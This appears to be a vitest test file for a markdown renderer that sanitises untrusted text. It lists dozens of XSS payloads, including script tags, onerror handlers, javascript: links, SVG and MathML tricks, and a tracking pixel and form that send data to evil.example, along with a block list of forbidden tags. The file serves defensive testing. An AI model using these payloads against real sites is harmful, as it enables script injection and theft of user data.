import { describe, expect, it } from 'vitest';
import { fragmentOf, htmlOf, isOutsideAddress, lex, plainText } from './render.ts';

/** Everything that can load, run, submit or restyle. */
const forbidden =
  'script,style,link,meta,base,iframe,frame,object,embed,img,picture,video,audio,source,svg,math,form,input,button,textarea,select,template,noscript,portal,dialog,details';

function faultsOf(fragment: DocumentFragment): string[] {
  const faults = [...fragment.querySelectorAll(forbidden)].map(({ localName }) => localName);
  for (const element of fragment.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (!['href', 'class', 'start', 'rel'].includes(name)) faults.push(`${name}=${value}`);
      if (name === 'href' && !/^https?:\/\//.test(value)) faults.push(`href=${value}`);
      if (name === 'class' && !/^(math-|table$|align-|language-)/.test(value)) faults.push(value);
    }
  }
  return faults;
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/x)',
  '[click](quarry://document/1)',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<div class="veil" id="app">x</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '$$<img src=x onerror=alert(1)>$$',
  '$\\href{javascript:alert(1)}{x}$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[x]: javascript:alert(1)\n\n[x]',
  '[a](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
];

describe('untrusted markdown', () => {
  it.each(attacks)('%s', (attack) => {
    expect(faultsOf(fragmentOf(htmlOf(lex(attack))))).toEqual([]);
  });

  it.each(attacks.filter((attack) => attack.startsWith('<')))(
    'even if the parser let it through as HTML: %s',
    (attack) => {
      expect(faultsOf(fragmentOf(attack))).toEqual([]);
    },
  );

  it('shows raw HTML as the text it is', () => {
    expect(plainText('a <b onclick=x>bold</b> word')).toBe('a <b onclick=x>bold</b> word');
  });

  it('names an image instead of loading it', () => {
    expect(plainText('![a plan](https://evil.example/p.png)')).toBe(
      'a plan (https://evil.example/p.png)',
    );
  });

  it('keeps links to the web, and only those', () => {
    const fragment = fragmentOf(
      htmlOf(lex('[a](https://a.example/x?y=1) [b](mailto:b@c.example)')),
    );
    expect([...fragment.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([
      'https://a.example/x?y=1',
    ]);
    expect(isOutsideAddress('http://localhost:8080/')).toBe(true);
    expect(isOutsideAddress('https://')).toBe(false);
  });
});

describe('markdown', () => {
  const html = (text: string) => {
    const holder = document.createElement('div');
    holder.append(fragmentOf(htmlOf(lex(text))));
    return holder.innerHTML.trim();
  };

  it('wraps tables so that they scroll by themselves', () => {
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain(
      '<div class="table"><table><thead><tr><th>a</th><th class="align-right">b</th></tr></thead>',
    );
  });

  it('finds math, and leaves money alone', () => {
    expect(html('$O(n)$ and \\(x\\)')).toBe(
      '<p><span class="math-inline">O(n)</span> and <span class="math-inline">x</span></p>',
    );
    expect(html('$$\na < b\n$$')).toBe('<div class="math-block">a &lt; b</div>');
    expect(html('It costs $5 or $10.')).toBe('<p>It costs $5 or $10.</p>');
  });

  it('writes tasks as signs, not as form controls', () => {
    expect(html('- [x] done\n- [ ] open')).toContain('☑ done');
  });
});
